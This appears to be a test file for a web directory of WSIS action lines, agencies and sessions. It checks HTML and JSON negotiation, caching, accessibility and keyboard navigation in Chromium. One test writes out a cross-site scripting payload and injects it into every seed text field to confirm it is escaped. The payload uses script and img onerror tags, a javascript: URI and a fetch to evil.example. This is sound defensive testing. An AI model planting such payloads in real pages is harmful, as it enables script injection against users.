import { brotliDecompressSync, gunzipSync } from 'node:zlib'
import type { BrowserContext } from 'playwright-core'
import { test } from 'tap'
import { axeFindings, openBrowser, skip, type Watched, watch } from './browser.ts'
import { startService } from './service.ts'
import { SeedCopy } from './wrong-seed.ts'

const accept = 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'

/** One page of every kind. */
const kinds = [
  '/',
  '/?edition=annex-draft',
  '/?edition=annex-adopted&comparedTo=annex-draft',
  '/v1/action-lines/C1',
  '/v1/action-lines/C7',
  '/v1/action-lines/C7.e-environment',
  '/v1/agencies/ITU',
  '/v1/agencies/ECA',
  '/v1/editions/annex-draft',
  '/v1/editions/annex-adopted?comparedTo=annex-draft',
  '/v1/sessions/2023-366',
  '/v1/outcome-documents/2023-366',
  '/v1/sources/annex-draft',
  '/v1/coordinations/annex-draft:C1:ECOSOC',
  '/v1/changes/0001:action-lines:C7.e-health',
  '/v1/action-lines',
  '/v1/agencies',
  '/v1/editions',
  '/v1/coordinations',
  '/v1/sources',
  '/v1/sessions',
  '/v1/outcome-documents',
  '/v1/changes',
  '/v1/search?q=health',
]
const refused = ['/v1/action-lines/C12', '/v1/sessions?agecny=ITU&from=soon', '/nothing']

test('a browser gets pages where others get data', async (t) => {
  const service = await startService()
  t.teardown(service.close)
  const { ask } = service

  await t.test('only a client that says that it takes HTML gets it', async (t) => {
    for (const url of kinds.slice(3)) {
      t.match((await ask(url, { accept })).headers['content-type'], 'text/html', url)
      t.match((await ask(url)).headers['content-type'], 'application/json', url)
      t.match((await ask(url, { accept: '*/*' })).headers['content-type'], 'application/json', url)
      t.match((await ask(url, { accept: 'application/json, text/html' })).headers['content-type'], 'application/json')
    }
    for (const url of refused) {
      t.match((await ask(url, { accept })).headers['content-type'], 'text/html', url)
      t.match((await ask(url)).headers['content-type'], 'application/problem+json', url)
    }
  })

  await t.test('the front page is for browsers; all others are sent to the reference as before', async (t) => {
    t.equal((await ask('/', { accept })).status, 200)
    for (const headers of [{}, { accept: '*/*' }, { accept: 'application/json' }, { accept: 'image/png' }]) {
      const answer = await ask('/', headers)
      t.equal(answer.status, 307)
      t.equal(answer.headers.location, '/docs')
      t.match(answer.headers.vary, 'accept')
    }
    t.equal((await ask('/?edition=nothing')).status, 400)
    t.equal((await ask('/?edition=nothing', { accept })).status, 400)
  })

  await t.test('a page is cached, compressed and conditional as data are', async (t) => {
    for (const url of kinds) {
      const page = await ask(url, { accept })
      t.equal(page.status, 200, url)
      t.match(page.headers['cache-control'], 'max-age=300')
      t.equal(page.headers.vary, 'accept, accept-encoding')
      t.match(page.headers['content-security-policy'], "script-src 'self'")
      const held = await ask(url, { accept, 'if-none-match': String(page.headers.etag) })
      t.equal(held.status, 304)
      t.equal(
        held.headers['content-security-policy'],
        page.headers['content-security-policy'],
        'a browser takes it over',
      )
      t.not((await ask(url)).headers.etag, page.headers.etag)
      t.ok(gunzipSync((await ask(url, { accept, 'accept-encoding': 'gzip' })).bytes).equals(page.bytes))
      t.ok(brotliDecompressSync((await ask(url, { accept, 'accept-encoding': 'br' })).bytes).equals(page.bytes))
      const head = await ask(url, { accept }, 'HEAD')
      t.equal(head.headers['content-length'], String(page.bytes.length))
      t.equal(head.bytes.length, 0)
    }
    t.ok((await ask('/', { accept })).bytes.length < 60_000, 'the first page is short')
  })

  await t.test('format=html gives a page, and format=json data, whatever Accept says', async (t) => {
    for (const url of ['/v1/action-lines/C1', '/v1/action-lines']) {
      t.match((await ask(`${url}?format=html`)).headers['content-type'], 'text/html')
      t.match((await ask(`${url}?format=json`, { accept })).headers['content-type'], 'application/json')
    }
  })

  await t.test('what pages load has an address that changes with it, and is kept for a year', async (t) => {
    const { text } = await ask('/', { accept })
    const files = [...text.matchAll(/(?:href|src)="(\/assets\/[^"]+)"/g)].map(([, path]) => String(path))
    t.equal(files.length, 3)
    for (const path of files) {
      const { status, headers, bytes } = await ask(path)
      t.equal(status, 200)
      t.match(path, /-[0-9a-f]{12}\./)
      t.match(headers['cache-control'], 'immutable')
      t.equal((await ask(path, { 'if-none-match': String(headers.etag) })).status, 304)
      t.ok(bytes.length > 100)
    }
    t.match((await ask('/robots.txt')).text, 'Disallow: /v1/search')
    t.equal((await ask('/sitemap.xml')).status, 404, 'which needs to know its own address')
  })

  await t.test('a field of a form that was left empty asks for nothing', async (t) => {
    const answer = await ask('/v1/sessions?actionLine=C9&agency=&from=&sort=', { accept })
    t.equal(answer.status, 307)
    t.equal(answer.headers.location, '/v1/sessions?actionLine=C9')
    t.equal((await ask('/v1/sessions?agency=', { accept })).headers.location, '/v1/sessions')
    t.equal((await ask('/?edition=', { accept })).headers.location, '/')
    t.equal((await ask('/v1/sessions?agency=')).status, 400, 'a program is told')
  })

  await t.test('a page of a problem says what the JSON says', async (t) => {
    for (const url of refused) {
      const { json, status } = await ask(url)
      const page = await ask(url, { accept })
      t.equal(page.status, status)
      for (const { href } of json.suggestions) t.match(page.text, `href="${href}"`)
      for (const { detail } of json.errors) t.match(page.text, detail.replaceAll('"', '&quot;'))
    }
  })

  await t.test('every address on every page answers, and a form for each filter is there', async (t) => {
    const found = new Set<string>()
    for (const url of kinds) {
      const { text } = await ask(url, { accept })
      for (const [, href = ''] of text.matchAll(/href="(\/[^"]*)"/g)) found.add(href.replaceAll('&amp;', '&'))
    }
    t.ok(found.size > 300)
    for (const href of found) {
      const { status, headers } = await ask(href, { accept })
      if (status === 307 || status === 308) t.equal((await ask(String(headers.location), { accept })).status, 200, href)
      else t.equal(status, 200, href)
    }
    const { text } = await ask('/v1/sessions', { accept })
    for (const name of ['actionLine', 'agency', 'forumYear', 'from', 'to', 'type', 'sdg', 'hasOutcome', 'sort'])
      t.match(text, `name="${name}"`)
  })

  await t.test('a long list goes on, and a list without items says so', async (t) => {
    const { text } = await ask('/v1/sessions?limit=2', { accept })
    const [, next = ''] = /href="([^"]+)" rel="next"/.exec(text) ?? []
    t.match((await ask(next.replaceAll('&amp;', '&'), { accept })).text, 'Sessions of the WSIS Forum')
    t.match((await ask('/v1/search?q=zzzzzz', { accept })).text, 'Nothing matches')
  })
})

test('under a public address pages lead there, and search engines learn of them', async (t) => {
  const service = await startService({ publicUrl: 'https://directory.example.org/wsis' })
  t.teardown(service.close)
  for (const url of ['/', '/v1/action-lines/C1', '/v1/sessions?limit=2', '/v1/action-lines/C12']) {
    const { text } = await service.ask(url, { accept })
    t.notMatch(text, / (?:href|src|action)="\/(?!wsis\/)/, url)
  }
  const { text } = await service.ask('/v1/action-lines/C1', { accept })
  t.match(text, '<link rel="canonical" href="https://directory.example.org/wsis/v1/action-lines/C1">')
  t.match(text, 'property="og:url"')
  const [, json = ''] = /<script type="application\/ld\+json">(.*?)<\/script>/s.exec(text) ?? []
  t.match(JSON.parse(json), { '@context': 'https://schema.org', '@type': 'DefinedTerm', termCode: 'C1' })
  t.match((await service.ask('/robots.txt')).text, 'Sitemap: https://directory.example.org/wsis/sitemap.xml')
  const sitemap = await service.ask('/sitemap.xml')
  t.match(sitemap.headers['content-type'], 'application/xml')
  for (const [, path = ''] of sitemap.text.matchAll(/<loc>https:\/\/directory\.example\.org\/wsis(.*?)<\/loc>/g))
    t.ok(['', '/'].includes(path) || (await service.ask(path)).status === 200, path)
  for (const url of ['/robots.txt', '/sitemap.xml']) {
    const { headers } = await service.ask(url)
    t.equal((await service.ask(url, { 'if-none-match': String(headers.etag) })).status, 304)
  }
})

test('in Chromium', { skip }, async (t) => {
  const service = await startService()
  t.teardown(service.close)
  const context = await openBrowser(t)
  const open = async (path: string, width?: number): Promise<Watched> => {
    const watched = await watch(context, width)
    await watched.page.goto(service.url + path)
    return watched
  }
  const others = (asked: string[]) => asked.filter((url) => !url.startsWith(`${service.url}/`))

  await t.test('axe finds nothing, no script fails and no other host is asked, light, dark and narrow', async (t) => {
    for (const path of [...kinds, ...refused])
      for (const [width, colorScheme] of [
        [1280, 'light'],
        [360, 'dark'],
      ] as const) {
        const { page, asked, errors } = await watch(context, width)
        await page.emulateMedia({ colorScheme })
        await page.goto(service.url + path)
        const label = `${path} ${width} ${colorScheme}`
        t.same(await axeFindings(page), [], label)
        t.same(others(asked), [], label)
        t.same(
          errors.filter((text) => !/status of 40[04]/.test(text)),
          [],
          label,
        )
        t.ok((await page.evaluate<number>('document.documentElement.scrollWidth')) <= width, `${label} fits`)
        await page.close()
      }
  })

  await t.test('the header row and the first column stay in view, and the table is a sheet of A4', async (t) => {
    const { page } = await open('/')
    const cell = page.locator('.matrix tbody th', { hasText: 'Follow-up' })
    await cell.scrollIntoViewIfNeeded()
    const head = await page.locator('.matrix thead th').first().boundingBox()
    t.ok(head && head.y >= 0 && head.y < 10, 'the header row stays at the top')
    await page.setViewportSize({ width: 800, height: 900 })
    await page.locator('.matrix thead th').last().scrollIntoViewIfNeeded()
    const first = await page.locator('.matrix thead th').first().boundingBox()
    t.ok(first && first.x >= 0 && first.x < 30, 'the first column stays at the left')
    const pdf = (await page.pdf({ preferCSSPageSize: true })).toString('latin1')
    t.equal([...pdf.matchAll(/\/Type \/Page\b/g)].length, 1)
  })

  await t.test('five questions are answered by clicks', async (t) => {
    const clicks: Record<string, number> = {}
    const ask = async (question: string, steps: string[], answer: (page: Watched['page']) => Promise<void>) => {
      const { page } = await open('/')
      for (const name of steps) await page.getByRole('link', { name }).locator('visible=true').first().click()
      await answer(page)
      clicks[question] = steps.length
      await page.close()
    }
    await ask('who does e-health today', ['E-health'], async (page) => {
      const today = page.locator('table').first().locator('tbody tr').first().locator('td').last()
      t.same((await today.innerText()).split(', ').sort(), ['ITU', 'WHO'])
    })
    await ask('what changed between draft and adopted text', ['Changed: Draft 2005 → Adopted 2005'], async (page) => {
      const row = page.locator('.matrix tr', { hasText: 'E-business' })
      t.equal(await row.locator('td.added').count(), 2, 'ITU and UPU')
      t.equal(await row.locator('td.gone').count(), 0)
    })
    await ask('all lines of ITU', ['ITU'], async (page) => {
      t.equal(new URL(page.url()).pathname, '/v1/agencies/ITU')
      t.equal(await page.locator('table').first().locator('tbody tr').count(), 17)
    })
    await ask('the spreadsheet of everything', [], async (page) => {
      const link = page.getByRole('link', { name: 'The spreadsheet of everything' })
      t.equal(await link.getAttribute('href'), '/v1/exports/current/directory.xlsx')
    })
    const { page } = await open('/')
    await page.getByRole('link', { name: 'Sessions', exact: true }).click()
    await page.getByLabel('Action line').selectOption('C9')
    await page.getByLabel('From').fill('2019')
    await page.getByRole('button', { name: 'Show' }).click()
    await page.waitForURL('**/v1/sessions?actionLine=C9&from=2019')
    for (const date of await page.locator('tbody time').allInnerTexts()) t.ok(Number(date.slice(-4)) >= 2019, date)
    t.comment('clicks', { ...clicks, 'the spreadsheet of everything': 1, 'the sessions on C9 since 2019': 2 })
  })

  await t.test('search completes by keyboard and leads on', async (t) => {
    const { page, errors } = await open('/')
    for (let presses = 0; presses < 20; presses++) {
      await page.keyboard.press('Tab')
      if (await page.evaluate<boolean>("document.activeElement.id === 'q'")) break
    }
    await page.keyboard.type('e-hea')
    await page.waitForSelector('[role=option]')
    t.equal(await page.locator('#q').getAttribute('aria-expanded'), 'true')
    await page.keyboard.press('ArrowUp')
    await page.keyboard.press('ArrowDown')
    await page.keyboard.press('ArrowDown')
    t.equal(await page.locator('[aria-selected=true]').count(), 1)
    t.same(await axeFindings(page), [], 'with the list open')
    await page.keyboard.press('Enter')
    await page.waitForURL('**/v1/action-lines/C7.e-health')
    await page.keyboard.press('Shift+Tab')
    t.same(errors, [])
    const again = await open('/')
    await again.page.locator('#q').fill('health')
    await again.page.waitForSelector('[role=option]')
    await again.page.keyboard.press('Escape')
    t.equal(await again.page.locator('[role=option]:visible').count(), 0)
    await again.page.keyboard.press('Enter')
    await again.page.waitForURL('**/v1/search?q=health')
  })

  await t.test('every link and field of the front page and of a line is reached by Tab', async (t) => {
    for (const path of ['/', '/v1/action-lines/C1']) {
      const { page } = await open(path)
      const wanted = await page.locator('a:visible, input:visible, button:visible, select:visible').count()
      const reached = new Set<string>()
      for (let presses = 0; presses < wanted + 10; presses++) {
        await page.keyboard.press('Tab')
        reached.add(
          await page.evaluate<string>(
            "(() => { const all = [...document.querySelectorAll('a, input, button, select')]; return String(all.indexOf(document.activeElement)) })()",
          ),
        )
      }
      reached.delete('-1')
      t.equal(reached.size, wanted, path)
    }
  })
})

test('with scripts off all but the completion works', { skip }, async (t) => {
  const service = await startService()
  t.teardown(service.close)
  const context: BrowserContext = await openBrowser(t, { javaScriptEnabled: false })
  const { page, errors } = await watch(context)
  await page.goto(service.url)
  await page.locator('#q').fill('disinform')
  await page.getByRole('button', { name: 'Search' }).click()
  await page
    .getByRole('link', { name: /Disinformation/ })
    .first()
    .click()
  await page.waitForURL('**/v1/sessions/2021-362')
  await page.getByRole('link', { name: 'C9', exact: true }).click()
  await page.waitForURL('**/v1/action-lines/C9')
  await page.getByRole('link', { name: 'Agencies', exact: true }).click()
  await page.getByLabel('Kind').selectOption('group')
  await page.getByRole('button', { name: 'Show' }).click()
  await page.waitForURL('**/v1/agencies?kind=group')
  await page.getByRole('link', { name: 'UN-Regional-Commissions' }).first().click()
  await page.getByRole('link', { name: 'ECA', exact: true }).first().click()
  await page.goto(service.url)
  await page.getByRole('link', { name: 'Adopted 2005', exact: true }).first().click()
  t.match(await page.locator('h1').innerText(), /Tunis|Adopted/)
  t.same(errors, [])
})

test('nothing that a seed says runs or is asked for', { skip }, async (t) => {
  const seed = new SeedCopy(t)
  const hostile = `"'><script>document.title='ran';fetch('https://evil.example/x')</script><img src=https://evil.example/i onerror="alert(1)">\u202e\u2066javascript:alert(2)`
  makeHostile(seed, hostile)
  t.same(seed.errors(), [], 'the seed is a right one')
  const service = await startService({ seed: seed.folder })
  t.teardown(service.close)
  const context = await openBrowser(t)
  for (const path of [
    ...kinds,
    '/v1/search?q=script',
    `/v1/search?q=${encodeURIComponent(hostile.slice(0, 190))}`,
    `/v1/action-lines/${encodeURIComponent(hostile)}`,
    `/v1/sessions?${encodeURIComponent(hostile)}=1`,
  ]) {
    const { page, asked, errors } = await watch(context)
    await page.goto(service.url + path)
    await page.waitForTimeout(50)
    t.same(
      asked.filter((url) => !url.startsWith(`${service.url}/`)),
      [],
      path,
    )
    t.same(
      errors.filter((text) => !/status of 40[04]/.test(text)),
      [],
      path,
    )
    t.equal(await page.locator('img').count(), 0)
    t.equal(await page.locator('script:not([src]):not([type="application/ld+json"])').count(), 0)
    t.equal(await page.locator('a[href^="javascript:" i]').count(), 0)
    t.not(await page.title(), 'ran')
    await page.close()
  }
  const { text } = await service.ask('/v1/action-lines/C1', { accept })
  t.match(text, '&lt;script&gt;', 'and it is there to be seen')
})

/** Puts a text behind every text of a seed that a page may show, and other schemes where addresses are. */
function makeHostile(seed: SeedCopy, hostile: string): void {
  const worse = (record: Record<string, unknown>, ...names: string[]) => {
    for (const name of names) if (typeof record[name] === 'string') record[name] += hostile
  }
  seed.change('action-lines.json', (lines) => {
    for (const line of lines) worse(line, 'title', 'genevaTitle')
  })
  seed.change('agencies.json', (agencies) => {
    for (const agency of agencies) {
      worse(agency, 'note', 'name')
      for (const name of agency.names as Record<string, unknown>[]) worse(name, 'name')
    }
  })
  seed.change('sources.json', (sources) => {
    for (const source of sources) {
      worse(source, 'title', 'document', 'note')
      for (const passage of source.passages as Record<string, unknown>[]) worse(passage, 'place', 'text')
    }
  })
  seed.change('sessions.json', (sessions) => {
    for (const session of sessions) {
      worse(session, 'title', 'type')
      session.organizers = [...(session.organizers as string[]), hostile]
    }
  })
  seed.change<Record<string, unknown>>('outcomes/2023-366.json', (outcome) => {
    worse(outcome, 'title', 'organizer')
    for (const section of outcome.sections as Record<string, unknown>[]) {
      worse(section, 'heading', 'intro')
      for (const point of section.points as Record<string, unknown>[]) {
        worse(point, 'text')
        if (point.speaker) worse(point.speaker as Record<string, unknown>, 'name', 'role', 'affiliation')
      }
    }
  })
}
